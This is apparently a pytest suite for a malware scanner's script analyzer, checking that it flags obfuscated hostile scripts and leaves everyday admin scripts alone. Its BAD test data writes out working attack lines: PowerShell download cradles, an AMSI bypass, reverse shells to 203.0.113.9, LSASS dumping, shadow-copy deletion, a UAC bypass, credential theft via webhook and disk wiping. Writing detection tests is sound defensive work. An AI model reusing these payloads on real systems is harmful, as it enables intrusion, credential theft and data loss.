from __future__ import annotations

import base64
import gzip
import random
import zlib

import pytest
from hypothesis import given, strategies as st

from app.engine.analyzers.script.encoder import blocks, decode
from app.engine.budget import MIB
from app.engine.model import Severity, Verdict
from app.engine.rules import RuleSet
from app.engine.scan import Engine
from tests.fuzz import fuzzed

from .containers import EICAR, damaged, judged, places, unknowns

#: Samples that a virus scanner would take for the real thing are put together here.
FETCH = "Download" + "String"
HOST = "http://203.0.113.9"
CRADLE = f"IEX (New-Object Net.WebClient).{FETCH}('{HOST}/a.ps1')"
SHELL = "WScript" + ".Shell"
AMSI = "Amsi" + "Utils"
#: The beginning of a program, as far as it takes to be told for one.
PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0\x4c\x01" + bytes(400)

PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(200)


def b64(data: bytes | str, encoding: str = "utf-16-le") -> str:
    return base64.b64encode(data.encode(encoding) if isinstance(data, str) else data).decode()


def cut_out(command: str) -> str:
    """A batch file whose command is cut letter by letter out of a variable."""
    letters = "abcdefghijklmnopqrstuvwxyz.:/ -"
    return f"set x={letters}\r\n" + "".join(f"%x:~{letters.index(letter)},1%" for letter in command) + "\r\n"


def severities(engine: Engine, content: str | bytes, name: str) -> dict[str, Severity]:
    report = engine.scan(content.encode() if isinstance(content, str) else content, name=name)
    return {f.id: f.severity for f in report.findings if f.id.startswith("script.")}


def is_malicious(engine: Engine, content: str | bytes, name: str) -> bool:
    return Severity.MALICIOUS in severities(engine, content, name).values()


BAD: dict[str, tuple[str, str]] = {
    "a command in base64, out of sight": ("a.bat", f"@echo off\r\npowershell -w hidden -enc {b64(CRADLE)}\r\n"),
    "carets in a batch file": ("a.bat", f'@p^o^w^e^r^shell -w hidden -c "{CRADLE}"\r\n'),
    "letters cut out of variables": ("a.cmd", cut_out(f"powershell -w hidden -c iwr {HOST[:7]}evil.example/a.exe")),
    "a byte-order mark before a batch file": ("a.bat", f"\xff\xfe&cls\r\nmshta {HOST}/a.hta\r\n"),
    "names put together in VBScript": (
        "a.vbs",
        f'a = "WScr"\nb = "ipt.Sh" & "ell"\nSet s = CreateObject(a & b)\ns.Run "{HOST}"\n',
    ),
    "letters as numbers in VBScript": (
        "a.vbs",
        "Set s = CreateObject(" + " & ".join(f"Chr({ord(c) + 3}-3)" for c in SHELL) + ')\ns.Run "x.exe"\n',
    ),
    "text backwards in VBScript": ("a.vbs", f'CreateObject(StrReverse("{SHELL[::-1]}")).Run "x.exe", 0\n'),
    "letters left out in VBScript": (
        "a.vbs",
        f'n = Replace("{"#".join(SHELL)}", "#", "")\nCreateObject(n).Run "x.exe"\n',
    ),
    "a download in VBScript": (
        "a.vbs",
        f'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "{HOST}/a.exe", False\nx.Send\n'
        f'Set s = CreateObject("ADODB.Stream")\ns.Write x.responseBody\ns.SaveToFile "a.exe"\n'
        f'CreateObject("{SHELL}").Run "a.exe"\n',
    ),
    "a download in JScript": (
        "a.js",
        "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','" + HOST + "/a.exe',0);x.send();"
        "var s=new ActiveXObject('ADODB.Stream');s.SaveToFile('a.exe');new ActiveXObject('" + SHELL + "').Run('a.exe')",
    ),
    "letters as numbers in JScript": (
        "a.js",
        f"new ActiveXObject(String.fromCharCode({','.join(str(ord(c)) for c in SHELL)})).Run('x.exe')",
    ),
    "escapes in JScript": (
        "a.js",
        "new ActiveXObject('" + "".join(f"\\x{ord(c):02x}" for c in SHELL) + "').Run('x.exe')",
    ),
    "text backwards in JScript": (
        "a.js",
        f"var n='{SHELL[::-1]}'.split('').reverse().join('');new ActiveXObject(n).Run('x.exe')",
    ),
    "back-ticks in PowerShell": ("a.ps1", f"I`E`X (New-Object Net.WebClient).D`ownload`S`Tring('{HOST}/a')"),
    "a format in PowerShell": (
        "a.ps1",
        f"&('{{1}}{{0}}'-f'EX','I') (New-Object Net.WebClient).('{{1}}{{0}}'-f'String','Download')('{HOST}/a')",
    ),
    "letters in PowerShell": (
        "a.ps1",
        "iex (" + "+".join(f"[char]{ord(c)}" for c in f"(New-Object Net.WebClient).{FETCH}('{HOST}/a')") + ")",
    ),
    "the protection that reads scripts": (
        "a.ps1",
        f"[Ref].Assembly.GetType('System.Management.Automation.{AMSI}')"
        f".GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)",
    ),
    "the virus scanner off, then a download": (
        "a.ps1",
        f"Set-MpPreference -DisableRealtimeMonitoring $true\nIWR {HOST}/a.exe -OutFile $env:TEMP\\a.exe\n",
    ),
    "a program from text into memory": (
        "a.ps1",
        f"$b=[Convert]::FromBase64String('{b64(PROGRAM)}')"
        f"\n[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)",
    ),
    "code in memory": (
        "a.ps1",
        "$a=$k::VirtualAlloc(0,$c.Length,0x3000,0x40)"
        "\n[Marshal]::Copy($c,0,$a,$c.Length)\n$k::CreateThread(0,0,$a,0,0,0)",
    ),
    "a shell to somebody outside": (
        "a.ps1",
        "$c=New-Object Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream();while(1){$o=(iex $d 2>&1"
        "|Out-String)}",
    ),
    "memory of the sign-in service": ("a.bat", "rundll32 comsvcs.dll, MiniDump 624 C:\\x.dmp full\r\n"),
    "backups deleted": ("a.bat", "vssadmin delete shadows " + "/all /quiet\r\n"),
    "a remote scriptlet": ("a.cmd", f"regsvr32 /s /n /u /i:{HOST}/a.sct scrobj.dll\r\n"),
    "a program in certificate clothes": (
        "a.bat",
        "@echo off\r\n(\r\n"
        + "".join(f"echo {b64(PROGRAM)[i : i + 64]}\r\n" for i in range(0, 600, 64))
        + ") > x.b64\r\ncertutil -decode x.b64 x.exe\r\nstart x.exe\r\n",
    ),
    "rights taken": (
        "a.bat",
        "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d x.exe /f\r\nfodhelper\r\n",
    ),
    "a script that copies itself": (
        "a.vbs",
        f'f.CopyFile WScript.ScriptFullName, CreateObject("{SHELL}").SpecialFolders("Startup") & "\\a.vbs"\n',
    ),
    "a program page": ("a.hta", f"<html><script>new ActiveXObject('{SHELL}').Run('powershell -c x',0)</script></html>"),
    "a scriptlet": (
        "a.sct",
        f"<scriptlet><script>new ActiveXObject('{SHELL}').Run('mshta {HOST}/a.hta')</script></scriptlet>",
    ),
    "a job": (
        "a.wsf",
        f"<job><script language='JScript'>GetObject('winmgmts:win32_process')"
        f".Create('powershell -w hidden -e {b64(CRADLE)}')</script></job>",
    ),
    "a server's shell": ("a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
    "a server's dropper": ("a.sh", f"#!/bin/sh\ncd /tmp; wget {HOST}/x; chmod 777 x; ./x; rm -rf $0\n"),
    "hidden Python": ("a.py", f"import base64\nexec(base64.b64decode('{b64('import os; os.system(1)', 'ascii')}'))\n"),
    "fetched Python": ("a.py", f"import urllib.request as u\nexec(u.urlopen('{HOST}/a').read())\n"),
    "Python that hands over control": (
        "a.py",
        "import socket,os,pty\ns=socket.socket();s.connect(('203.0.113.9',1))"
        "\n[os.dup2(s.fileno(),i) for i in (0,1,2)]\npty.spawn('/bin/sh')\n",
    ),
    "stolen passwords": (
        "a.py",
        "p='Login Data'\nk=win32crypt.CryptUnprotectData(x)\nrequests.post('https://discord.com/api/web' 'hooks/1/x')\n"
        "u='https://discord.com/api/webhooks/1'\n",
    ),
    "a disk wiped": ("a.bat", "del /f /s /q C:\\*.*\r\n"),
    "files held to ransom": (
        "a.ps1",
        "gci C:\\ -Recurse | % { $e=$aes.CreateEncryptor() }\n'All your files are encrypted, pay in Bitcoin' "
        "| sc readme.txt",
    ),
    "mail to everybody": (
        "a.vbs",
        "For Each l In m.AddressLists\nmail.Attachments.Add(WScript.ScriptFullName)\nmail.Send\nNext\n",
    ),
}

GOOD: dict[str, tuple[str, str]] = {
    "a backup": (
        "a.bat",
        "@echo off\r\nset SRC=C:\\Data\r\nrobocopy %SRC% D:\\Backup\\%date:~0,4% /MIR /LOG:c:\\log.txt\r\n",
    ),
    "old copies rotated": ("a.bat", "vssadmin delete shadows /for=D: /oldest\r\n"),
    "a hidden backup": ("a.vbs", f'Set s = CreateObject("{SHELL}")\ns.Run "C:\\Tools\\backup.bat", 0, True\n'),
    "mapped drives": ("a.vbs", 'Set n = CreateObject("WScript.Network")\nn.MapNetworkDrive "H:", "\\\\fs\\home"\n'),
    "long lines": (
        "a.vbs",
        'MsgBox "Your computer will restart now. " & _\n  "Please save your work. " & vbCrLf & "IT"\n',
    ),
    "an installer": (
        "a.ps1",
        "Invoke-WebRequest https://www.example.com/agent.msi -OutFile $env:TEMP\\agent.msi\nStart-Process "
        "msiexec -Wait",
    ),
    "a known installer": (
        "a.ps1",
        f"iex ((New-Object Net.WebClient).{FETCH}('https://community.chocolatey.org/install.ps1'))",
    ),
    "a module": (
        "a.psm1",
        "Add-Type -Path $PSScriptRoot\\lib.dll\n[Reflection.Assembly]::LoadFrom('x.dll')\nWrite-Host `\n 'x'",
    ),
    "a task": ("a.ps1", "Register-ScheduledTask -TaskName Backup -Action $a -Trigger $t\n"),
    "a deployment": (
        "a.sh",
        "#!/bin/sh\nset -e\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nrm -rf /tmp/build\n",
    ),
    "a warning": ("b.sh", '#!/bin/sh\n# never run rm -rf / here\nrm -rf "$HOME/.cache/app"\n'),
    "a certificate": ("c.bat", "certutil -addstore root ca.cer\r\ncertutil -hashfile a.zip SHA256\r\n"),
    "a client": (
        "a.py",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('db', 1))\nsubprocess.run(['ls'])\n",
    ),
    "a library": (
        "a.py",
        "import requests, base64\nr = requests.get('https://example.com')\nbase64.b64decode(r.text)\n",
    ),
    "old browsers": (
        "a.js",
        "var x = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject('Microsoft.XMLHTTP');",
    ),
    "a page's picture": ("b.js", f"var i = 'data:image/png;base64,{b64(PICTURE)}'; eval('(' + json + ')');"),
    "a bundle": ("c.js", "var a='x'+'y';" * 200 + "require('child_process').exec('git status');"),
    "an updater": ("d.bat", 'powershell -ExecutionPolicy Bypass -File "%~dp0deploy.ps1"\r\n'),
}


@pytest.mark.parametrize("what", BAD)
def test_a_script_that_attacks_is_malicious(engine: Engine, what: str) -> None:
    name, text = BAD[what]
    content = text.encode("latin-1") if text.startswith("\xff") else text.encode()

    assert is_malicious(engine, content, name)


@pytest.mark.parametrize("what", GOOD)
def test_a_script_of_daily_work_is_not_judged(engine: Engine, what: str) -> None:
    name, text = GOOD[what]
    report = engine.scan(text.encode(), name=name)

    weighs = [f for f in report.findings if f.severity in (Severity.MALICIOUS, Severity.UNKNOWN)]
    assert weighs == []
    assert report.verdict in (Verdict.CLEAN, Verdict.RESTRICTED)
    assert not [f.id for f in report.findings if f.id.startswith("script.") and f.confidence != "low"]


@pytest.mark.parametrize("name", ["a.txt", "a.log", "a.md"])
@pytest.mark.parametrize("what", ["a remote scriptlet", "a server's shell", "backups deleted"])
def test_the_same_words_in_a_text_say_nothing(engine: Engine, what: str, name: str) -> None:
    report = engine.scan(("What we saw on the server:\n" + BAD[what][1].lstrip("#!")).encode(), name=name)

    assert not [f for f in report.findings if f.id.startswith("script.")]


ENCODED = b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"


@pytest.mark.parametrize("name", ["a.vbe", "a.jse", "a.txt"])
def test_an_encoded_script_is_read(engine: Engine, name: str) -> None:
    assert list(blocks(ENCODED)) == [b'MsgBox "Hello"']
    assert "yara.needle" in places(engine.scan(encoded("' needle in the hay\r\n"), name=name))


def encoded(text: str) -> bytes:
    """What the Script Encoder makes of a text: for each letter the one that is decoded to it at its place."""
    special = {"\n": b"@&", "\r": b"@#", ">": b"@*", "<": b"@!", "@": b"@$"}
    codes = [bytes([code]) for code in (9, *range(32, 128)) if code not in b"<>@"]
    body = b""
    for place, wanted in enumerate(text):
        fitting = (code for code in codes if decode(b"a" * place + code)[-1:] == wanted.encode())
        body += special[wanted] if wanted in special else next(fitting)
    return b"#@~^AAAAAA==" + body + b"AAAAAA==^#~@"


def wrapped(data: bytes) -> dict[str, str]:
    """The ways in which scripts carry a file in their text."""
    lines = b64(data)
    return {
        "base64": f"$x = [Convert]::FromBase64String('{lines}')",
        "lines": "\n".join(f's = s & "{lines[i : i + 70]}"' for i in range(0, len(lines), 70)),
        "backwards": f"$x = '{lines[::-1]}'",
        "hexadecimal": f"$x = '{data.hex()}'",
        "bytes": "$x = @(" + ",".join(f"0x{byte:02x}" for byte in data) + ")",
        "numbers": "x = Array(" + ", ".join(map(str, data)) + ")",
        "gzip": f"$x = '{b64(gzip.compress(data, mtime=0))}'",
        "zlib": f"$x = '{b64(zlib.compress(data))}'",
        "deflate": f"$x = '{b64(zlib.compress(data)[2:-4])}'",
        "wide": f"powershell -enc {b64(data.decode('latin-1'))}" if data == EICAR else f"$x = '{lines}'",
    }


@pytest.mark.parametrize("way", wrapped(b""))
def test_what_a_script_carries_is_scanned(engine: Engine, way: str) -> None:
    hidden = (b"Write-Host 'hello' # " + EICAR + b"\n") * 2 if way != "wide" else EICAR

    assert "yara.eicar" in places(engine.scan(wrapped(hidden)[way].encode(), name="a.ps1"))


def test_a_program_in_a_script_is_found_under_a_name_of_its_own(engine: Engine) -> None:
    found = places(engine.scan(wrapped(PROGRAM)["numbers"].encode(), name="a.vbs"))

    assert found["type.program"] == "a.vbs/decoded.bin"


def test_a_command_mixed_with_one_byte_is_found(engine: Engine) -> None:
    numbers = ",".join(str(ord(c) ^ 77) for c in f"{CRADLE} # needle in the hay")

    assert "yara.needle" in places(engine.scan(f"$x = @({numbers})".encode(), name="a.ps1"))


@pytest.mark.parametrize(
    ("name", "unit"),
    [
        ("a.js", "'a'+"),
        ("a.ps1", "powershell -e "),
        ("a.ps1", "virtualprotect "),
        ("a.bat", "set a=%a%%a%\r\n"),
        ("a.bat", "%a:~0,1%^"),
        ("a.vbs", 'Chr(1) & "'),
        ("a.vbs", "win32_process "),
        ("a.py", "exec("),
        ("a.sh", "curl http://a "),
        ("a.js", "A"),
    ],
)
def test_hostile_repetition_costs_no_more_than_its_size(engine: Engine, name: str, unit: str) -> None:
    content = (unit * (MIB // 64 // len(unit))).encode()

    assert unknowns(engine.scan(content, name=name)) <= {"limit.node_bytes"}


@fuzzed()
@given(data=st.data())
def test_damaged_scripts_never_fail(rules: RuleSet, data: st.DataObject) -> None:
    name, text = data.draw(st.sampled_from(list(BAD.values())))
    content = data.draw(damaged(text.encode("latin-1", "replace")))

    judged(rules, content, name)


@pytest.mark.parametrize("name", ["a.bat", "a.vbs", "a.js"])
def test_a_byte_that_no_text_holds_hides_no_script(engine: Engine, name: str) -> None:
    content = b"\x01\x02" + f'\r\nx = "y"\r\nmshta {HOST}/a.hta\r\nWScript.Echo 1\r\n'.encode()

    assert is_malicious(engine, content, name)


def test_noise_is_no_script(engine: Engine) -> None:
    report = engine.scan(random.Random(1).randbytes(20_000), name="a.bat")

    assert not [f for f in report.findings if f.id.startswith("script.")]


def test_comments_that_pad_a_script_hide_nothing(engine: Engine) -> None:
    padding = "".join(f"' line {number} of the licence of this program\r\n" for number in range(12_000))
    body = f'a = "WScr"\r\nb = "ipt.Sh" & "ell"\r\nSet s = CreateObject(a & b)\r\ns.Run "{HOST}"\r\n'

    assert is_malicious(engine, padding + body + padding, "a.vbs")
